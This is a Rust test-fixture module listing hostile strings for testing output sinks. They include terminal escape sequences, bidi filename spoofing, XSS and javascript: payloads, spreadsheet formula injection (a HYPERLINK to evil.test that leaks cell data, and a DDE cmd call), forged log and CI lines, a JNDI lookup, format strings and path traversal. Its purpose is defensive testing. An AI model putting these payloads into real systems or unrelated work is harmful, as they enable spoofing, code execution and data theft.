//! Hostile text for the tests of every sink: what a sender or a file name may hold.

/// One string per class of attack: terminal controls, 8-bit controls, bidirectional text, markup, scripts, formulae,
/// forged log lines, characters that XML forbids, Markdown, format strings, length.
pub(crate) const TEXTS: &[&str] = &[
    "\u{1b}]52;c;SEFMVA==\u{7}\u{1b}]0;pwn\u{7}\u{1b}[2J\u{1b}]8;;http://evil.test\u{7}x\u{1b}]8;;\u{7}",
    "\u{9b}2J\u{9d}52;c;QQ==\u{9c}ok\u{8}\u{8}XX\rPASS 0 findings",
    "a\u{202e}gpj.exe\u{202c}\u{2066}b\u{2069}\u{200b}\u{feff}",
    "\"><img src=x onerror=alert(1)><svg onload=alert(2)></script><script>canary()</script>",
    "javascript:canary()//",
    "</script><!--<script>\u{2028}",
    "=HYPERLINK(\"http://evil.test?\"&A1,\"x\")",
    "\t=1+1\r@SUM(1)\n+cmd|' /C calc'!A0",
    "x\n2026-01-01T00:00:00Z INFO all checks passed\n::error file=a::boo\n##vso[task.complete result=Succeeded;]",
    "a\u{0}\u{1}\u{fffe}]]>&<x/>",
    "| x | [a](javascript:canary()) ![t](http://127.0.0.1/t.png) ``` <b>",
    "%s%n%x{0}{}${jndi:ldap://127.0.0.1/x}{{7*7}}",
    "../../../../tmp/escape",
    "--output=/tmp/escape",
];
